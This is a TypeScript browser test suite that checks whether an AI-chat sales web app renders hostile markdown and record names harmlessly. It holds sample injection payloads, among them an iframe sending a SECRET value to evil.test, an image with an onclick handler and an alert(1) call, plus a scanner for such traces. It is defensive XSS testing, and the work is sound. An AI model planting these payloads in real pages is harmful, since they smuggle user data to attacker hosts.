import assert from 'node:assert/strict'
import { test } from 'node:test'
import { enterAsOwner, openBrowser, settled, until, wordsOf } from '../support/browser.ts'
import { HOSTILE_MARKDOWN } from '../support/hostile-markdown.ts'
import { openTestHouse } from '../support/house.ts'
import { startModelServer } from '../support/model-server.ts'
import { importCsv } from '../support/own-company.ts'
import { wireAnswer } from '../support/wire-answer.ts'

const FORMS = Object.entries(HOSTILE_MARKDOWN)
/** A form that has the colleague's own words before and after it, so that its being shown can be seen. */
const answers = FORMS.map(([name, form]) => `Begin ${name}.\n\n${form}\n\nEnd ${name}.`)
let asked = 0
const model = await startModelServer(() => ({
  kind: 'replay',
  text: wireAnswer(answers[asked % answers.length] ?? '', 7),
}))
const house = await openTestHouse({ SOPHIA_MODEL: 'openai/test', OPENAI_BASE_URL: `${model.url}/v1` })
const browser = await openBrowser()
const visit = await browser.visit(house)
const { page, go, context, misdeeds } = visit
await enterAsOwner(house, visit)

const CLEAN = { errors: [], foreign: [], dialogs: [], violations: [] }

/** What on the page names the outside: things that load or act by themselves, and links that hide where they go. */
const FIND_TRACES = `(() => {
  const traces = []
  for (const element of document.querySelectorAll('body *')) {
    for (const attribute of element.attributes) {
      const isLoad = /^(src|srcset|poster|action|formaction|data|background|style|xlink:href|ping)$/.test(attribute.name)
      const isLink = attribute.name === 'href' && element.localName !== 'a'
      if ((isLoad || isLink) && attribute.value.includes('evil.test')) traces.push(element.outerHTML.slice(0, 200))
      if (/^on/.test(attribute.name) || /^\\s*javascript:/i.test(attribute.value)) traces.push(element.outerHTML.slice(0, 200))
    }
  }
  for (const link of document.querySelectorAll('a[href]')) {
    const url = new URL(link.href)
    if (url.host === location.host) continue
    if (!link.innerText.includes('(' + url.host + ')')) traces.push('host not shown: ' + link.outerHTML)
    if (!link.rel.includes('noopener') || link.target !== '_blank') traces.push('opens in place: ' + link.outerHTML)
  }
  if (document.querySelector('main iframe, main style, main script, main video, main form[action], #config')) traces.push('an active element')
  return traces
})()`

async function assertHarmless(): Promise<void> {
  assert.deepEqual(await page.evaluate(FIND_TRACES), [])
  assert.deepEqual(misdeeds, CLEAN)
}

/** The owner as the rooms know them; by the door so many calls in a row would meet the rate limit. */
async function ownerPrincipal() {
  const { memberId } = (await (await context.request.get('/api/me')).json()) as { memberId: string }
  const principal = await house.rooms.access.principalOf(memberId)
  assert.ok(principal)
  return principal
}

test('the watch sees what it watches for', async () => {
  const bad = await browser.visit(house)
  await bad.go('/sign-in')
  await bad.page.evaluate(
    `document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.test/x"><p onclick="1"></p>')`,
  )
  await until(
    async () => bad.misdeeds.violations.length,
    (count) => count > 0,
  )
  assert.equal(((await bad.page.evaluate(FIND_TRACES)) as string[]).length, 2)
  await bad.page.evaluate(`setTimeout(() => alert(1))`)
  await until(
    async () => bad.misdeeds.dialogs.length,
    (count) => count > 0,
  )
  await bad.context.close()
})

test('answers in every form are read harmlessly, as they come and as they are stored', async () => {
  await go('/talk/marcus')
  for (const [index, [name]] of FORMS.entries()) {
    asked = index
    await page.getByRole('textbox', { name: 'Ask Marcus' }).fill(`Show me the ${name}`)
    await page.keyboard.press('Enter')
    const answer = page.getByRole('article', { name: 'Answer', exact: true }).nth(index)
    await answer.waitFor()
    assert.match(await wordsOf(answer.locator('.answer-text')), new RegExp(`^Begin ${name}\\..*End ${name}\\.$`), name)
    await assertHarmless()
  }
  await page.reload()
  await until(
    () => page.getByRole('article', { name: 'Answer', exact: true }).count(),
    (count) => count === FORMS.length,
  )
  await assertHarmless()
})

test('a link of an answer shows its host and does not bring the page along', async () => {
  const link = page.getByRole('link', { name: /evil\.test\/p/ }).first()
  assert.match(await wordsOf(link), /\(evil\.test\)$/)
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow')
})

test('titles, names of records, people, keys and files are words and nothing more', async () => {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""').replaceAll('\n', ' ')}"`
  const names = FORMS.map(([, form]) => form)
  await importCsv(visit, 'reps', ['id,name,kind', ...names.map((name, at) => `r${at},${quoted(name)},rep`)].join('\n'))
  await importCsv(
    visit,
    'clients',
    ['id,name,owner', ...names.map((name, at) => `c${at},${quoted(name)},r${at}`)].join('\n'),
  )
  const deals = names.map((name, at) => `d${at},${quoted(name)},c${at},r${at},proposal,1000,${quoted(name)}`)
  await importCsv(visit, 'deals', ['id,name,client,rep,stage,value,next step', ...deals].join('\n'))
  const principal = await ownerPrincipal()
  const { access, conversations } = house.rooms
  const place = { role: 'member', rowScope: 'own', teamId: null, repId: null } as const
  for (const [at, text] of names.entries()) {
    const name = text.replaceAll('\n', ' ')
    await conversations.createConversation(principal, { persona: 'sarah', title: name })
    await access.inviteMember({ principal }, { email: `person${at}@example.com`, name, ...place })
    await access.createKey({ principal }, { name, actions: null, expiresInDays: 1 })
  }
  const shown: readonly (readonly [string, string])[] = [
    ['/conversations', '.talk-item-title'],
    ['/deals', '.row-open'],
    ['/clients', '.row-open'],
    ['/members', 'td strong'],
    ['/keys', 'td strong'],
  ]
  for (const [path, selector] of shown) {
    await go(path)
    // Shown as it was written, mark-up and all.
    await page.locator(selector, { hasText: '<iframe src="https://evil.test/p?d=SECRET"></iframe>' }).first().waitFor()
    await assertHarmless()
  }
  for (const path of ['/', '/deals/d2?', '/clients/c2', '/deals?open=d6', '/audit', '/usage', '/import']) {
    await go(path)
    await settled(page)
    await assertHarmless()
  }
})

test('the palette finds hostile records and shows their words', async () => {
  await page.keyboard.press('Control+k')
  await page.getByRole('combobox', { name: 'Search pages, records and actions' }).fill('evil')
  await page.getByRole('option').filter({ hasText: '<' }).first().waitFor()
  await assertHarmless()
})
